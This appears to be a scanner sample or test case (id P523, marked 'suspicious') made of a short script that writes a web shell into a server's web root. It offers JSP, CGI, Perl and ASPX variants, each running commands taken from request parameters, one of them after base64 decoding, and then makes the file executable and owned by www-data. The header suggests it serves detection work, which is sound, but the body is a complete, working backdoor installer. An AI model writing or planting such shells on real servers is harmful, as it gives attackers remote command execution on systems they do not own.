# id: P523
# mode: scan
# level: suspicious
# title: a page of another language that runs what the request says
# due: now
word name
pick kind jsp cgi pl aspx
case $kind in
jsp)
    path=/var/lib/tomcat9/webapps/ROOT/$name.jsp
    body='<%@ page import="java.io.*" %><% if (request.getParameter("c") != null) { Process p = Runtime.getRuntime().exec(request.getParameter("c")); } %>'
    ;;
cgi)
    path=/usr/lib/cgi-bin/$name.cgi
    body=$'#!/bin/sh\necho "Content-Type: text/plain"; echo\neval "$(echo "$QUERY_STRING" | base64 -d)"'
    ;;
pl)
    path=/var/www/html/cgi-bin/$name.pl
    body=$'#!/usr/bin/perl\nuse CGI; print CGI->new->header; system(CGI::param("c"));'
    ;;
aspx)
    path=/var/www/html/$name.aspx
    body='<%@ Page Language="Jscript"%><%eval(Request.Item["c"],"unsafe");%>'
    ;;
esac
mkdir -p "${path%/*}"
echo "$body" >"$path"
chmod 755 "$path"
chown www-data: "$path"
said path "$path"
